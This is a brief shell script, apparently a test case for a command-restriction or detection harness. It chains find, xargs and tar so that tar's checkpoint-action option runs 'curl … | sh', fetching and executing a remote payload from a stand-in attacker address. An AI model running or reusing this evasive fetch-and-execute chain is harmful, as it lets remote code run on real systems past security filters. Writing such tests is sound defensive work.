#!/bin/sh
. /opt/case/case.sh

find /etc/hostname -exec env timeout 20 xargs -a /dev/null \
    tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='sh -c "curl -s http://203.0.113.10/payload.sh | sh"' \; 2>/dev/null
wait_for /tmp/reached
took_place
